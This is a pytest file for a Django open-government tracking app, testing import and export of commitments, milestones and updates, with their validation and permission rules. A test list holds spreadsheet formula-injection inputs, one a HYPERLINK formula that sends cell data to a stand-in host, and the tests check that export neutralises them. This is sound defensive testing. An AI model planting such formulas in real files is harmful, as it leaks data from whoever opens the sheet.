import json
from datetime import date
from io import BytesIO

import openpyxl
import pytest
import tablib
from django.utils import translation
from django.utils.timezone import now

from commitments.models import Assessment, Commitment, Milestone, Update
from commitments.resources import (
    AssessmentResource,
    CommitmentResource,
    MilestoneResource,
    UpdateResource,
)
from entities.resources import EntityResource
from faces.files import Xlsx
from record.actions import IsAnnulled, publish
from record.models import Change, Entry
from record.publication import Status
from record.search import SEARCH_FIELDS
from record.writing import writing
from tests.admin_pages import address
from tests.factories import (
    make_assessment,
    make_commitment,
    make_document,
    make_editor,
    make_entity,
    make_focal_point,
    make_milestone,
    make_plan,
    make_policy_area,
    make_publisher,
    make_report,
    make_responsibility,
    make_theme,
    make_update,
    make_user,
)
from tests.imports import confirm, faults, faults_on, hand_in, kinds, kinds_on, load

pytestmark = pytest.mark.django_db

ERRATUM = "Errata de imprenta"


def reason_of(row):
    """Return the reason of the last change of a row."""
    return Change.objects.of(row).last().entry.reason


def milestone_row(**columns):
    return {"commitment": "", "number": 1, "activity_es": "Actividad", "place": "p. 1"} | columns


@pytest.mark.parametrize(
    "resource", [AssessmentResource, CommitmentResource, MilestoneResource, UpdateResource, EntityResource]
)
def test_files_lack_the_columns_that_the_search_writes(resource):
    headers = resource().export().headers

    assert headers
    assert not set(headers) & set(SEARCH_FIELDS)


# There and back.


@pytest.mark.parametrize(
    ("resource", "make"),
    [
        (CommitmentResource, make_commitment),
        (MilestoneResource, make_milestone),
        (UpdateResource, lambda: make_update(workflow=Status.DRAFT)),
        (AssessmentResource, make_assessment),
    ],
    ids=["commitment", "milestone", "update", "assessment"],
)
@pytest.mark.parametrize("file_format", ["csv", "xlsx", "json"])
def test_exported_rows_come_back_unchanged(admin_client, resource, make, file_format):
    row = make()
    model = type(row)
    number = ["csv", "xlsx", "json"].index(file_format)

    exported = admin_client.post(address(model, "export"), {"format": number})
    page = hand_in(admin_client, model, exported.content, f"rows.{file_format}")

    assert faults_on(page) == ""
    assert kinds_on(page) == ["same"]


def test_files_name_rows_by_public_identifiers_and_hold_no_search_text():
    plan = make_plan()
    commitment = make_commitment(plan=plan, theme=make_theme(plan=plan))
    areas = [make_policy_area(slug="a"), make_policy_area(slug="b")]
    with writing(reason="made for a test"):
        commitment.policy_areas.set(areas)

    row = CommitmentResource().export(Commitment.objects.all()).dict[0]

    assert (row["plan"], row["theme"], row["document"]) == (
        plan.number,
        commitment.theme.slug,
        commitment.document.slug,
    )
    assert row["policy_areas"] == "a|b"
    assert not {"id", "search_text"} & set(row)


def test_export_takes_the_same_queries_for_one_row_and_for_many(django_assert_max_num_queries):
    make_update()
    with django_assert_max_num_queries(5) as once:
        UpdateResource().export(Update.objects.all())
    for _ in range(3):
        make_update()

    with django_assert_max_num_queries(len(once)):
        UpdateResource().export(Update.objects.all())


# Writing.


@pytest.mark.parametrize("user", [None, make_publisher, lambda: make_user(is_superuser=True)])
def test_new_commitment_and_new_assessment_are_added_by_whoever_publishes(user):
    user, report = user and user(), make_report()
    where = {"document": report.document.slug, "place": "p. 1"}
    commitment = {"plan": report.plan.number, "number": 7, "title_es": "Nuevo"} | where
    card = {"report": report.slug, "commitment": f"{report.plan.number}-7", "level": "complete"} | where

    results = [
        load(CommitmentResource(user, "why"), commitment),
        load(AssessmentResource(user, "why"), card),
    ]

    assert [faults(result) for result in results] == ["", ""]
    assert Assessment.objects.get().commitment == Commitment.objects.get()


def test_new_row_is_added_with_its_code_and_noted_in_the_log():
    commitment, document, user = make_commitment(), make_document(), make_publisher()

    result = load(
        MilestoneResource(user=user),
        milestone_row(commitment=commitment.code, number="7", document=document.slug, ends_on="2016-12-31"),
    )

    assert faults(result) == ""
    milestone = Milestone.objects.get(code=f"{commitment.code}-7")
    assert milestone.ends_on == date(2016, 12, 31)
    entry = Change.objects.of(milestone).get().entry
    assert (entry.by, entry.act, entry.file) == (user, "import", "rows.json")


def test_columns_that_a_file_lacks_stay_as_they_are():
    milestone = make_milestone(note_es="Nota")

    load(
        MilestoneResource(reason=ERRATUM),
        {"commitment": milestone.commitment.code, "number": milestone.number, "activity_es": "Otra"},
    )

    milestone.refresh_from_db()
    assert (milestone.activity_es, milestone.note_es) == ("Otra", "Nota")


def test_emptied_cells_become_null_or_empty():
    commitment = make_commitment(ogp_id="PE0001", is_starred=True)
    other = make_commitment(ogp_id=None, plan=commitment.plan)
    empty = {"ogp_id": "", "is_starred": "", "title_en": ""}

    result = load(
        CommitmentResource(reason=ERRATUM),
        {"plan": commitment.plan.number, "number": commitment.number} | empty,
        {"plan": other.plan.number, "number": other.number} | empty,
    )

    assert faults(result) == ""
    commitment.refresh_from_db()
    assert (commitment.ogp_id, commitment.is_starred, commitment.title_en) == (None, None, "")


def test_translations_keep_their_fingerprints():
    milestone = make_milestone(unofficial={"activity_en": ""})
    row = {"commitment": milestone.commitment.code, "number": milestone.number}
    load(MilestoneResource(reason=ERRATUM), row | {"activity_es": "Otra"})

    load(
        MilestoneResource(reason=ERRATUM),
        row | {"unofficial": "activity_en|note_en", "note_es": "N", "note_en": "N"},
    )

    milestone.refresh_from_db()
    assert set(milestone.unofficial) == {"activity_en", "note_en"}
    assert milestone.is_stale("activity_en")
    assert not milestone.is_stale("note_en")


# Faults: told with their line, and nothing is written.


@pytest.mark.parametrize(
    "fault",
    [
        {"commitment": "99-99"},
        {"commitment": ""},
        {"number": "siete"},
        {"number": "1.5"},
        {"ends_on": "31/12/16"},
        {"ends_on": "31/02/2016"},
        {"activity_es": ""},
        {"document": "unknown"},
        {"document": ""},
        {"starts_on": "2018-01-01", "ends_on": "2017-01-01"},
        {"unofficial": "title_en"},
        {"activity_es": "Llame al tel. 2345678"},
    ],
    ids=str,
)
def test_bad_row_is_told_with_its_line_and_nothing_is_written(fault):
    commitment = make_commitment()
    good = milestone_row(
        commitment=commitment.code, document=make_document().slug, starts_on="", ends_on="", unofficial=""
    )

    result = load(MilestoneResource(), good, good | {"number": 2} | fault)

    assert kinds(result) == ["new", "refused"]
    assert faults(result)
    assert not Milestone.objects.exists()


@pytest.mark.parametrize(
    ("columns", "words"),
    [({"activty_es": "x"}, "activty_es"), ({"commitment": None}, "Compromiso")],
)
def test_unknown_or_missing_columns_are_told(columns, words):
    row = {name: value for name, value in (milestone_row() | columns).items() if value is not None}

    assert words in faults(load(MilestoneResource(), row))


def test_unknown_level_or_policy_area_is_refused():
    card = make_assessment(report=make_report(status=Status.DRAFT))
    commitment = card.commitment

    level = load(
        AssessmentResource(),
        {"report": card.report.slug, "commitment": commitment.code, "level": "finished"},
    )
    area = load(
        CommitmentResource(reason=ERRATUM),
        {"plan": commitment.plan.number, "number": commitment.number, "policy_areas": "unknown"},
    )

    assert faults(level)
    assert "unknown" in faults(area)
    assert Assessment.objects.get().level == "complete"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("rows.csv", b"\xff\xfe\x00"),
        ("rows.csv", b"a"),
        ("rows.csv", b"commitment,number\n1,2\n"),
        ("rows.csv", b"\x00,\x00\n\x00,\x00"),
        ("rows.xlsx", b"not a workbook"),
        ("rows.json", b"{"),
        ("rows.json", b"3"),
        ("rows.json", b'[["commitment"], ["1-1"]]'),
        ("rows.json", b'[{"commitment": "1-1"}, {"number": 1}]'),
        ("rows.json", b"[]"),
    ],
    ids=str,
)
def test_file_that_cannot_be_read_is_refused(admin_client, name, content):
    page = hand_in(admin_client, Milestone, content, name)

    assert page.status_code == 200
    assert faults_on(page)
    assert not page.context["is_ready"]
    assert not Milestone.objects.exists()


def test_empty_file_is_asked_for_anew(admin_client):
    page = hand_in(admin_client, Milestone, b"")

    assert list(page.context["form"].errors) == ["import_file"]


def test_keys_of_a_json_file_may_stand_in_any_order(admin_client):
    row = milestone_row(commitment=make_commitment().code, document=make_document().slug)
    turned = dict(reversed(row.items())) | {"number": 2}

    page = hand_in(admin_client, Milestone, json.dumps([row, turned]), "rows.json")
    confirm(admin_client, page)

    assert set(Milestone.objects.values_list("number", "activity_es")) == {(1, "Actividad"), (2, "Actividad")}


def test_empty_rows_at_the_end_of_a_sheet_are_no_rows(admin_client):
    row = milestone_row(commitment=make_commitment().code, document=make_document().slug)
    book = openpyxl.Workbook()
    for line in (list(row), list(row.values()), [None] * len(row)):
        book.active.append(line)
    book.active.cell(row=9, column=1, value="")
    content = BytesIO()
    book.save(content)

    page = hand_in(admin_client, Milestone, content.getvalue(), "rows.xlsx")

    assert faults_on(page) == ""
    assert kinds_on(page) == ["new"]


# Texts are read clean (rule 11).


def test_cells_are_stored_clean():
    commitment, document = make_commitment(), make_document()
    raw = " participacio\u0301n\r\nciu\u00addadana\u200b "

    result = load(
        MilestoneResource(),
        milestone_row(commitment=f"\ufeff{commitment.code} ", document=document.slug, activity_es=raw),
    )

    assert faults(result) == ""
    assert Milestone.objects.get().activity_es == "participación\nciudadana"


def test_row_whose_texts_are_only_cleaned_is_skipped():
    milestone = make_milestone(activity_es="uno\ndos")
    row = {"commitment": milestone.commitment.code, "number": milestone.number}

    result = load(MilestoneResource(), row | {"activity_es": "u\u00adno\r\ndos "})

    assert faults(result) == ""
    assert kinds(result) == ["same"]


def test_unclean_row_of_old_is_skipped_when_nothing_else_is_changed():
    milestone = make_milestone()
    with writing(reason="made for a test"):
        Milestone.objects.filter(pk=milestone.pk).update(activity_es="u\u00adno\r\ndos", note_es="N\ufeff")
    row = {"commitment": milestone.commitment.code, "number": milestone.number}

    result = load(MilestoneResource(), row | {"activity_es": "uno\ndos"})

    assert faults(result) == ""
    assert kinds(result) == ["same"]


@pytest.mark.parametrize("dash", ["–", "—", "‑", "−"])
def test_rows_are_named_with_any_dash(dash):
    plan = make_plan()
    commitment = make_commitment(plan=plan, theme=make_theme(plan=plan, slug="2-participacion"))
    area = make_policy_area(slug="open-data")
    entity = make_entity(slug="pcm-sgp")

    results = [
        load(
            CommitmentResource(reason=ERRATUM),
            {
                "plan": plan.number,
                "number": commitment.number,
                "theme": f"2{dash}participacion",
                "policy_areas": f"open{dash}data",
            },
        ),
        load(
            MilestoneResource(),
            milestone_row(commitment=commitment.code.replace("-", dash), document=make_document().slug),
        ),
        load(EntityResource(reason=ERRATUM), {"slug": f"pcm{dash}sgp", "acronym": "SGP"}),
    ]

    assert [faults(result) for result in results] == ["", "", ""]
    assert commitment.milestones.count() == 1
    assert list(commitment.policy_areas.all()) == [area]
    entity.refresh_from_db()
    assert entity.acronym == "SGP"


def headed(*heads):
    """Return the heads of a file with what spreadsheets and other systems add."""
    return [f"\ufeff{heads[0]}", *(f" {head[:3]}\u00ad{head[3:]}\u00a0" for head in heads[1:])]


@pytest.mark.parametrize("quote", ["", '"'])
def test_heads_of_a_csv_file_are_read_clean(admin_client, quote):
    row = milestone_row(commitment=make_commitment().code, document=make_document().slug)
    first, *others = headed(*row)
    heads = [f"\ufeff{quote}{first[1:]}{quote}", *others]
    content = f"{','.join(heads)}\r\n{','.join(map(str, row.values()))}\r\n"

    page = hand_in(admin_client, Milestone, content)

    assert faults_on(page) == ""
    assert kinds_on(page) == ["new"]


def test_heads_of_a_sheet_are_read_clean(admin_client):
    row = milestone_row(commitment=make_commitment().code, document=make_document().slug)
    book = openpyxl.Workbook()
    book.active.append(headed(*row))
    book.active.append(list(row.values()))
    content = BytesIO()
    book.save(content)

    page = hand_in(admin_client, Milestone, content.getvalue(), "rows.xlsx")

    assert faults_on(page) == ""
    assert kinds_on(page) == ["new"]


# What looks like a telephone number and is none (rule 8).

NUMBER = "Se aprobó con el expediente, fax 2345678"


def test_number_is_let_through_with_one_reason_for_the_file():
    commitment, document = make_commitment(), make_document()
    row = milestone_row(commitment=commitment.code, document=document.slug)
    rows = [row | {"activity_es": NUMBER}, row | {"number": 2}]

    refused = load(MilestoneResource(), *rows)
    result = load(MilestoneResource(no_telephone="Es un expediente"), *rows)

    assert "fax 2345678" in faults(refused)
    assert faults(result) == ""
    assert reason_of(Milestone.objects.first()) == "no es teléfono: Es un expediente"


def test_number_that_stands_is_not_asked_about_when_its_row_is_imported_again():
    milestone = make_milestone(activity_es=NUMBER)
    row = {"commitment": milestone.commitment.code, "number": milestone.number, "activity_es": NUMBER}

    result = load(MilestoneResource(reason=ERRATUM), row | {"note_es": "Nota"})

    assert faults(result) == ""
    milestone.refresh_from_db()
    assert milestone.note_es == "Nota"


def test_texts_that_stand_are_not_looked_at_again_by_an_import():
    milestone = make_milestone()
    with writing(reason="made for a test"):
        Milestone.objects.update(note_es="Escriba a a@b.pe")

    result = load(
        MilestoneResource(reason=ERRATUM),
        {"commitment": milestone.commitment.code, "number": milestone.number, "activity_es": "Otra"},
    )

    assert faults(result) == ""


def test_address_is_never_let_through_by_an_import():
    row = milestone_row(commitment=make_commitment().code, document=make_document().slug)

    result = load(MilestoneResource(no_telephone="No es un correo"), row | {"activity_es": "a@b.pe"})

    assert "a@b.pe" in faults(result)
    assert not Milestone.objects.exists()


def test_reason_for_a_number_is_kept_beside_the_source_of_an_imported_date():
    milestone = make_milestone(ends_on=date(2016, 12, 31))

    result = load(
        MilestoneResource(reason=ERRATUM, no_telephone="Es un expediente"),
        {
            "commitment": milestone.commitment.code,
            "number": milestone.number,
            "activity_es": NUMBER,
            "ends_on": "2016-06-30",
            "transcription_source": "Plan, p. 9",
        },
    )

    assert faults(result) == ""
    change = Change.objects.of(milestone).last()
    assert (change.source, change.entry.reason) == (
        "Plan, p. 9",
        f"{ERRATUM}; no es teléfono: Es un expediente",
    )


def test_long_name_of_a_file_is_kept_as_far_as_it_fits():
    row = milestone_row(commitment=make_commitment().code, document=make_document().slug)

    load(MilestoneResource(), row, name="x" * 300 + ".json")

    assert Change.objects.of(Milestone.objects.get()).get().entry.file == "x" * 200


# What Excel cannot hold.


def export(client, model, file_format):
    """Export the rows of a model; return the answer, and what it says in words."""
    response = client.post(
        address(model, "export"), {"format": file_format}, headers={"accept-language": "en"}
    )
    return response, " ".join(map(str, response.context["messages"])) if response.context else ""


def test_text_that_excel_cannot_hold_is_told_with_its_place(admin_client):
    plan = make_plan()
    make_commitment(plan=plan, number=1)
    with writing(reason="made for a test"):
        Commitment.objects.create(
            plan=plan,
            number=2,
            title_es="Dos",
            problem_es="x" * 32_768,
            document=make_document(),
            place="p. 1",
        )
    make_commitment(plan=plan, number=3)
    with writing(reason="made for a test"):
        Commitment.objects.filter(number=3).update(title_es="Tres\x07<b>")

    response, words = export(admin_client, Commitment, 1)

    assert response.status_code == 200
    assert "Content-Disposition" not in response.headers
    assert f"row 3 ({plan.number}-2), column problem_es: 32768 characters, 32767 at the most" in words
    assert f"row 4 ({plan.number}-3), column title_es: a control character" in words
    assert "“Commitments”" in words and "CSV" in words
    assert "Error" not in words


def test_row_without_a_code_is_named_by_what_identifies_it(admin_client):
    card = make_assessment(results="x" * 40_000)

    _response, words = export(admin_client, Assessment, 1)

    assert f"row 2 ({card.public_id}), column results" in words


def test_only_the_first_places_are_named(admin_client):
    for _ in range(8):
        make_assessment(results="x" * 40_000)

    _response, words = export(admin_client, Assessment, 1)

    assert words.count("column results") == 5
    assert "; 3 more." in words


@pytest.mark.parametrize("character", ["\x00", "\x0b", "\x1f", "\ufffe"])
def test_character_that_excel_cannot_read_is_refused(character):
    dataset = CommitmentResource().export(Commitment.objects.none())
    dataset.append([f"a{character}b"] + [""] * (dataset.width - 1))

    with translation.override("en"), pytest.raises(ValueError, match="row 2"):
        Xlsx().export_data(dataset)


@pytest.mark.parametrize("text", ["x" * 32_767, "uno\ndos\ttres", "\U0001f600" * 16_383])
def test_text_that_excel_can_hold_is_written_whole(admin_client, text):
    make_assessment()
    with writing(reason="made for a test"):
        Assessment.objects.update(results=text)

    response, _words = export(admin_client, Assessment, 1)

    sheet = openpyxl.load_workbook(BytesIO(response.content)).active
    column = [cell.value for cell in sheet[1]].index("results")
    assert sheet[2][column].value == text


# What a spreadsheet would run, as focal points might type it, and what only looks like it was kept from that.
RUN = ['=HYPERLINK("http://x.example?"&A1,"clic")', "+1+1", "-1+1", "@SUM(1)", "'=1", "''+1"]


@pytest.mark.parametrize("text", RUN)
def test_text_that_a_spreadsheet_would_run_is_kept_from_running(admin_client, text):
    make_update(workflow=Status.DRAFT, text_es=text)

    lines, _words = export(admin_client, Update, 0)
    book, _words = export(admin_client, Update, 1)

    assert tablib.import_set(lines.content.decode(), "csv").dict[0]["text_es"] == f"'{text}"
    cells = [cell for row in openpyxl.load_workbook(BytesIO(book.content)).active for cell in row]
    # What only looks as if it was kept from running is marked, and so comes back as it was.
    wanted = f"'{text}" if text.startswith("'") else text
    assert [cell.data_type for cell in cells if cell.value == wanted] == ["s"]


@pytest.mark.parametrize("file_format", [0, 1, 2])
@pytest.mark.parametrize("text", RUN)
def test_text_that_was_kept_from_running_comes_back_as_it_was(admin_client, text, file_format):
    make_update(workflow=Status.DRAFT, text_es=text)

    exported, _words = export(admin_client, Update, file_format)
    page = hand_in(admin_client, Update, exported.content, ["a.csv", "a.xlsx", "a.json"][file_format])

    assert (faults_on(page), kinds_on(page)) == ("", ["same"])


def test_emoji_count_twice_as_excel_counts_them(admin_client):
    make_assessment(results="\U0001f600" * 16_384)

    _response, words = export(admin_client, Assessment, 1)

    assert "32768 characters" in words


def test_csv_holds_what_excel_cannot(admin_client):
    card = make_assessment(results="x" * 40_000)

    response, _words = export(admin_client, Assessment, 0)

    assert card.results in response.content.decode()


# Rules of the record.


def test_public_row_is_imported_with_a_reason_only():
    milestone = make_milestone(activity_es="Antes")
    row = {"commitment": milestone.commitment.code, "number": milestone.number, "activity_es": "Después"}

    unsaid = load(MilestoneResource(), row)
    result = load(MilestoneResource(reason=ERRATUM), row)

    assert faults(unsaid)
    assert faults(result) == ""
    assert reason_of(milestone) == ERRATUM


def test_public_dates_are_imported_with_the_source_of_the_right_one_only():
    milestone = make_milestone(ends_on=date(2016, 12, 31))
    row = {"commitment": milestone.commitment.code, "number": milestone.number, "ends_on": "2016-06-30"}

    unsaid = load(MilestoneResource(reason=ERRATUM), row)
    result = load(MilestoneResource(reason=ERRATUM), row | {"transcription_source": "Plan, p. 9"})

    assert "Where the right date stands" in faults(unsaid) or "fecha correcta" in faults(unsaid)
    assert faults(result) == ""
    milestone.refresh_from_db()
    assert milestone.ends_on == date(2016, 6, 30)
    assert Change.objects.of(milestone).last().source == "Plan, p. 9"


def test_published_update_is_not_imported_over():
    update = make_update(text_es="Dicho")

    result = load(
        UpdateResource(reason=ERRATUM),
        {"milestone": update.milestone.code, "number": update.number, "text_es": "Otro"},
    )

    assert faults(result)
    update.refresh_from_db()
    assert update.text_es == "Dicho"


def update_row(milestone, **columns):
    return {
        "milestone": milestone.code,
        "number": 1,
        "as_of": "2017-01-31",
        "text_es": "Avance",
        "workflow": "draft",
        "document": make_document().slug,
        "place": "p. 1",
    } | columns


def test_update_is_published_by_whoever_may_publish_alone_only(settings):
    milestone = make_milestone()
    row = update_row(milestone, workflow="published")

    refused = load(UpdateResource(user=make_editor()), row)
    own = load(UpdateResource(user=make_publisher()), row)
    settings.ONE_PUBLISHER = True
    result = load(UpdateResource(user=make_publisher()), row)

    assert faults(refused)
    assert "workflow" in faults(own)
    assert faults(result) == ""
    assert Entry.objects.latest("pk").is_alone


def test_rules_of_the_model_hold_for_imports():
    milestone = make_milestone()
    elsewhere = make_commitment()
    report = make_report(plan=milestone.commitment.plan)

    future = load(UpdateResource(), update_row(milestone, as_of="2999-01-01"))
    other_plan = load(
        AssessmentResource(),
        {
            "report": report.slug,
            "commitment": elsewhere.code,
            "level": "complete",
            "document": make_document().slug,
            "place": "p. 1",
        },
    )

    assert "as_of" in faults(future)
    assert "commitment" in faults(other_plan)


def correction_row(wrong, number, **columns):
    row = {"milestone": wrong.milestone.code, "number": number, "as_of": str(wrong.as_of), "text_es": "Otro"}
    return row | {"corrects": wrong.code, "document": wrong.document.slug, "place": "p. 1"} | columns


def test_a_correction_is_published_by_an_import_as_by_its_page(settings):
    settings.ONE_PUBLISHER = True
    wrong = make_update(workflow=Status.PUBLISHED)
    publisher = make_publisher()
    first = correction_row(wrong, 50, workflow="published")

    unreasoned = load(UpdateResource(publisher), first)
    assert "50" not in faults(unreasoned) and faults(unreasoned)
    assert faults(load(UpdateResource(publisher, ERRATUM), first)) == ""
    second = load(UpdateResource(publisher, ERRATUM), correction_row(wrong, 51, workflow="published"))
    elsewhere = correction_row(wrong, 52, milestone=make_milestone().code, workflow="published")
    moved = load(UpdateResource(publisher, ERRATUM), elsewhere)

    assert wrong.code in faults(second)
    assert faults(moved)
    assert wrong.corrections.count() == 1


def test_file_that_is_too_large_is_not_taken(admin_client):
    page = hand_in(admin_client, Update, b"milestone,number\n" * 700_000)

    assert list(page.context["form"].errors) == ["import_file"]


def test_focal_point_corrects_no_update_of_others_by_an_import():
    """He would learn which drafts there are, and move words of others."""
    entity = make_entity()
    own = make_milestone()
    make_responsibility(commitment=own.commitment, entity=entity, role="lead")
    others = make_update(workflow=Status.PUBLISHED)

    row = correction_row(others, 1, milestone=own.code)
    result = load(UpdateResource(make_focal_point(entity)), row)

    assert "corrects" in faults(result)
    assert not own.updates.exists()


def test_focal_point_imports_no_update_as_that_of_a_report():
    led = make_responsibility()
    report = make_report(plan=led.commitment.plan)
    row = update_row(make_milestone(commitment=led.commitment), report=report.slug)

    refused = load(UpdateResource(user=make_focal_point(led.entity)), row)
    result = load(UpdateResource(user=make_editor()), row)

    assert "report" in faults(refused)
    assert faults(result) == ""


def test_focal_point_imports_updates_of_his_own_milestones_only():
    led = make_responsibility()
    user = make_focal_point(led.entity)
    ours, theirs = make_milestone(commitment=led.commitment), make_milestone()

    refused = load(UpdateResource(user=user), update_row(theirs))
    result = load(UpdateResource(user=user), update_row(ours))

    assert faults(refused)
    assert faults(result) == ""
    update = Update.objects.get()
    assert (update.milestone, update.workflow) == (ours, Update.Workflow.DRAFT)


def test_what_a_focal_point_imports_is_submitted_with_its_letter():
    led = make_responsibility()
    user, milestone = make_focal_point(led.entity), make_milestone(commitment=led.commitment)
    row = {"milestone": milestone.code, "as_of": "31/01/2017", "text_es": "Avance", "percent": "40 %"}
    letter = {"letter_kind": "Oficio", "letter_number": "012-2017-MINAM", "letter_on": "03/02/2017"}

    unreasoned = load(UpdateResource(user=user), row | letter)
    result = load(UpdateResource(user=user), row | letter | {"reason_es": "Faltó presupuesto"})
    again = load(UpdateResource(user=user), row | letter | {"reason_es": "Faltó presupuesto"})

    assert kinds(unreasoned) == ["refused"]
    assert faults(result) == ""
    update = Update.objects.get()
    assert (update.workflow, update.percent) == (Update.Workflow.SUBMITTED, 40)
    assert "012-2017-MINAM" in update.document.title_es
    assert kinds(again) == ["same"]


@pytest.mark.parametrize(
    ("resource", "make"),
    [
        (CommitmentResource, lambda: make_commitment(plan=make_plan(status=Status.DRAFT))),
        (
            MilestoneResource,
            lambda: make_milestone(commitment=make_commitment(plan=make_plan(status=Status.DRAFT))),
        ),
        (UpdateResource, lambda: make_update(workflow=Status.DRAFT)),
        (AssessmentResource, lambda: make_assessment(report=make_report(status=Status.DRAFT))),
    ],
    ids=["commitment", "milestone", "update", "assessment"],
)
def test_focal_point_overwrites_no_row_of_others_by_an_import(resource, make):
    row = make()
    user = make_focal_point(make_entity())
    line = resource().export(type(row).objects.all()).dict[0] | {"place": "overwritten"}

    result = load(resource(user=user, reason=ERRATUM), line)

    assert faults(result)
    row.refresh_from_db()
    assert row.place != "overwritten"


# The two steps in the admin.


def test_import_happens_in_two_steps_with_user_and_reason(admin_client, admin_user):
    milestone = make_milestone()
    content = f"commitment,number,activity_es\n{milestone.commitment.code},{milestone.number},Otra\n"

    page = hand_in(admin_client, Milestone, content, reason=ERRATUM)
    unchanged = Milestone.objects.get().activity_es
    confirm(admin_client, page)

    assert unchanged == milestone.activity_es
    milestone.refresh_from_db()
    assert milestone.activity_es == "Otra"
    entry = Change.objects.of(milestone).last().entry
    assert (entry.by, entry.reason) == (admin_user, ERRATUM)


def test_first_step_shows_faults_of_every_kind_with_their_lines(admin_client):
    milestone = make_milestone()
    rows = [
        "commitment,number,activity_es",
        "9-9,1,Otra",
        f"{milestone.commitment.code},{milestone.number},Otra",
    ]

    page = hand_in(admin_client, Milestone, "\n".join(rows)).content.decode()

    assert "9-9" in page and 'class="errorlist"' in page and "Traceback" not in page
    for line in ("Row 2", "Row 3") if "Row 2" in page else ("Fila 2", "Fila 3"):
        assert line in page


def test_preview_marks_changes_without_inline_styles(admin_client):
    milestone = make_milestone(activity_es="Antes <b>")
    content = f"commitment,number,activity_es\n{milestone.commitment.code},{milestone.number},Después <b>\n"

    page = hand_in(admin_client, Milestone, content, reason=ERRATUM).content.decode()

    assert "<ins>" in page
    assert "style=" not in page
    assert "&lt;b&gt;" in page


def test_second_step_that_is_sent_twice_works_once(admin_client):
    milestone = make_milestone()
    content = f"commitment,number,activity_es\n{milestone.commitment.code},{milestone.number},Otra\n"
    page = hand_in(admin_client, Milestone, content, reason=ERRATUM)

    first, second = confirm(admin_client, page), confirm(admin_client, page)

    assert [each.context["upload"].step for each in (first, second)] == ["written", "written"]
    assert Entry.objects.filter(act="import").count() == 1


def test_second_step_writes_nothing_when_a_row_went_bad_in_between(admin_client):
    good, bad = (
        make_milestone(commitment=make_commitment(plan=make_plan(status=Status.DRAFT))) for _ in range(2)
    )
    lines = [f"{row.commitment.code},{row.number},Otra" for row in (good, bad)]
    page = hand_in(admin_client, Milestone, "\n".join(["commitment,number,activity_es", *lines]))
    publish(None, bad.commitment.plan)

    page = confirm(admin_client, page)

    assert kinds_on(page) == ["changed", "refused"]
    assert not Milestone.objects.filter(activity_es="Otra").exists()


def test_nobody_sees_what_another_handed_in(admin_client, client):
    milestone = make_milestone()
    content = f"commitment,number,activity_es\n{milestone.commitment.code},{milestone.number},Otra\n"
    page = hand_in(admin_client, Milestone, content, reason=ERRATUM)
    client.force_login(make_publisher())

    seen = client.get(page.request["PATH_INFO"])
    sent = client.post(page.request["PATH_INFO"], {"confirm": "1"})

    assert [seen.status_code, sent.status_code] == [404, 404]
    assert not Milestone.objects.filter(activity_es="Otra").exists()


def test_reason_for_a_number_goes_with_the_file_through_both_steps(admin_client):
    milestone = make_milestone()
    content = f'commitment,number,activity_es\n{milestone.commitment.code},{milestone.number},"{NUMBER}"\n'

    refused = hand_in(admin_client, Milestone, content, reason=ERRATUM)
    page = hand_in(admin_client, Milestone, content, reason=ERRATUM, no_telephone="Es un expediente")
    confirm(admin_client, page)

    assert "fax 2345678" in refused.content.decode()
    assert reason_of(milestone) == f"{ERRATUM}; no es teléfono: Es un expediente"


@pytest.mark.parametrize(
    "given",
    [
        {"reason": "Lo pidió a@b.pe"},
        {"reason": "tel. 2345678"},
        {"no_telephone": "Lo dijo a@b.pe"},
    ],
    ids=str,
)
def test_reasons_of_an_import_are_looked_at_too(admin_client, given):
    milestone = make_milestone()
    content = f"commitment,number,activity_es\n{milestone.commitment.code},{milestone.number},Otra\n"

    page = hand_in(admin_client, Milestone, content, **{"reason": ERRATUM} | given)

    assert page.context["form"].errors


def test_reason_of_an_import_is_kept_clean(admin_client):
    milestone = make_milestone()
    content = f"commitment,number,activity_es\n{milestone.commitment.code},{milestone.number},Otra\n"

    page = hand_in(admin_client, Milestone, content, reason=" Errata de im\u00adprenta ")
    confirm(admin_client, page)

    assert reason_of(milestone) == ERRATUM


def test_focal_point_imports_only_updates(client):
    client.force_login(make_focal_point(make_responsibility().entity))

    statuses = [client.get(address(model, "import")).status_code for model in (Commitment, Milestone, Update)]

    assert statuses == [403, 403, 200]


def test_line_that_names_an_annulled_row_is_told_that_it_is_annulled():
    commitment = make_commitment()
    row = CommitmentResource().export(Commitment.objects.filter(pk=commitment.pk)).dict[0]
    with writing(reason="Se registró dos veces"):
        Commitment.objects.filter(pk=commitment.pk).update(annulled_at=now())

    result = load(CommitmentResource(reason=ERRATUM), row)

    assert IsAnnulled(str(commitment)).messages[0] in faults(result)
